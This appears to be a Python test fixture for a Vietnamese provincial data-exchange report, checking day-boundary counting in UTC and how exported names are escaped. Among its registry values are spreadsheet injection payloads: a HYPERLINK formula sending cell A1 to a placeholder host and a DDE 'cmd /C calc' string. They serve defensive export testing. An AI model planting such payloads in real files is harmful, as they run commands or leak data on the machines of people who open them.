"""Seven calls on the edges of the province's days, counted by hand; and a registry whose names try the exports.

A day of Cà Mau is 17:00 to 17:00 in UTC: 29/02/2024 begins at 2024-02-28T17:00:00Z. All moments stand here in UTC.
"""

from datetime import UTC, date, datetime

from tests.exchange.conftest import register_all
from tests.exchange.scribe import DVC, IOFFICE, POPULATION, Scribe, call

from duoc.core.environment import Environment
from duoc.exchange import services as exchange

# No software key: a column of its own. The other one shares the column of iOffice.
OTHER = "VN/GOV/000.00.00.H12/khac"
BRANCH = "VN/GOV/000.00.00.H12/van-phong"
# The one permitted character that a path must escape: in messages, entries and addresses it is %3F.
QUESTION = "VN/GOV/G01/chia-se/hoi%3Fdap"
FORMULA = '=HYPERLINK("http://a/?"&A1,"Bấm vào đây")'
UNUSED = "@SUM(1+1)*cmd|' /C calc'!A0"

CALLS = [
    [
        ("2024-02-28T16:59:59.999999", DVC, POPULATION, 200),  # the last microsecond of 28/02
        ("2024-02-28T17:00:00.000000", DVC, POPULATION, 200),  # the first of 29/02
        ("2024-02-29T16:59:59.999999", DVC, POPULATION, 404),  # the last of 29/02
    ],
    [("2024-02-29T17:00:00.000000", IOFFICE, POPULATION, 200)],  # the first of 01/03
    [
        ("2024-12-31T16:59:59.999999", OTHER, QUESTION, 399),  # the last of the year: below 400 is a success
        ("2024-12-31T17:00:00.000000", OTHER, QUESTION, 400),  # the first of the next: 400 is not
        ("2024-12-31T17:00:00.000000", BRANCH, POPULATION, 500),
    ],
]

# Both days inclusive → (service code → (column → requests), failed). Counted by hand from the list above.
Cells = dict[str, dict[str, int]]
BY_HAND: list[tuple[date, date, Cells, int]] = [
    (date(2024, 2, 28), date(2024, 2, 28), {"dan-cu": {"DVC_CaMau": 1}}, 0),
    (date(2024, 2, 29), date(2024, 2, 29), {"dan-cu": {"DVC_CaMau": 2}}, 1),
    (date(2024, 2, 28), date(2024, 2, 29), {"dan-cu": {"DVC_CaMau": 3}}, 1),
    (date(2024, 3, 1), date(2024, 3, 1), {"dan-cu": {"iOffice": 1}}, 0),
    (date(2024, 2, 29), date(2024, 3, 1), {"dan-cu": {"DVC_CaMau": 2, "iOffice": 1}}, 1),
    (date(2024, 3, 2), date(2024, 12, 30), {}, 0),
    (date(2024, 12, 31), date(2024, 12, 31), {"hoi?dap": {OTHER: 1}}, 0),
    (date(2025, 1, 1), date(2025, 1, 1), {"hoi?dap": {OTHER: 1}, "dan-cu": {"iOffice": 1}}, 2),
    (date(2024, 1, 1), date(2024, 12, 31), {"dan-cu": {"DVC_CaMau": 3, "iOffice": 1}, "hoi?dap": {OTHER: 1}}, 1),
    (date(2024, 2, 28), date(2025, 1, 1), {"dan-cu": {"DVC_CaMau": 3, "iOffice": 2}, "hoi?dap": {OTHER: 2}}, 3),
    (date.min, date.max, {"dan-cu": {"DVC_CaMau": 3, "iOffice": 2}, "hoi?dap": {OTHER: 2}}, 3),
]


def moment(text: str) -> int:
    """A moment written in UTC, as µs since the epoch."""
    passed = datetime.fromisoformat(text).replace(tzinfo=UTC) - datetime(1970, 1, 1, tzinfo=UTC)
    return passed.days * 86_400_000_000 + passed.seconds * 1_000_000 + passed.microseconds


def register_edges(environment: Environment = Environment.PRODUCTION) -> None:
    """The small registry, and what tries the report: shared columns, none, an escaped name, names that are formulas."""
    register_all(environment)
    home = ("VN", "GOV", "000.00.00.H12")
    exchange.register_subsystem((*home, "khac"), "+1 phần mềm", environment=environment)
    exchange.register_subsystem((*home, "van-phong"), "iOffice", software="iOffice", environment=environment)
    provider = ("VN", "GOV", "G01", "chia-se")
    url = "http://127.0.0.1:8090/x"
    exchange.register_service((*provider, "hoi?dap"), FORMULA, url, ministry="-2+3", environment=environment)
    exchange.register_service((*provider, "khong-dung"), UNUSED, url, environment=environment)


def write_edges(scribe: Scribe) -> Scribe:
    """The seven calls in three batches, in the ledger."""
    scribe.ids[QUESTION] = scribe.ids[QUESTION.replace("%3F", "?")]
    number = 0
    for calls in CALLS:
        batch = []
        for text, client, service, status in calls:
            batch.append(call(number, moment(text), client=client, service=service, status=status))
            number += 1
        scribe.batch(batch)
    scribe.log()
    return scribe
